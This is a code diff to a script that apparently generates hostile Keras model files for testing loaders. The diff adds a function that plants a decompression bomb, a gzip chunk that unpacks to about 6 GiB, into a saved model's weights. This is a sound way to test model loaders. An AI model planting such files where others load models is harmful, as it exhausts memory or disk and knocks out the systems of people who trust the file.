@@ -1,8 +1,11 @@
 """build_hostile.py FOLDER: models with code inside, as real Keras saves them, and a proof that loading them in Keras runs it."""
 
 import os
+import shutil
 import sys
+import zlib
 
+import h5py
 import tensorflow as tf
 
 layers = tf.keras.layers
@@ -52,6 +55,19 @@ def innocent_model():
     return tf.keras.Model(x, layers.Dense(2, name="scores")(layers.Rescaling(2.0, name="double")(x)))
 
 
+def deflate_bomb(source, target):
+    """A kernel of a few bytes whose chunk says 6 GiB when it is unpacked."""
+    shutil.copy(source, target)
+    packer = zlib.compressobj(9)
+    block = bytes(64 << 20)
+    bomb = b"".join([packer.compress(block) for _ in range(96)] + [packer.flush()])
+    with h5py.File(target, "r+") as file:
+        kernel = file["model_weights/scores/scores/kernel:0"]
+        path, shape, dtype = kernel.name, kernel.shape, kernel.dtype
+        del file[path]
+        file.create_dataset(path, shape, dtype, chunks=shape, compression="gzip").id.write_direct_chunk((0, 0), bomb)
+
+
 def main(folder):
     os.makedirs(folder, exist_ok=True)
     os.chdir(folder)
@@ -63,6 +79,7 @@ def main(folder):
     innocent.compile("adam", "mse")
     innocent.fit(tf.zeros((8, 4)), tf.zeros((8, 2)), verbose=0)
     innocent.save("innocent.h5")
+    deflate_bomb("innocent.h5", "bomb.h5")
     innocent.save_weights("weights.h5")
     with open("architecture.json", "w") as file:
         file.write(innocent.to_json())
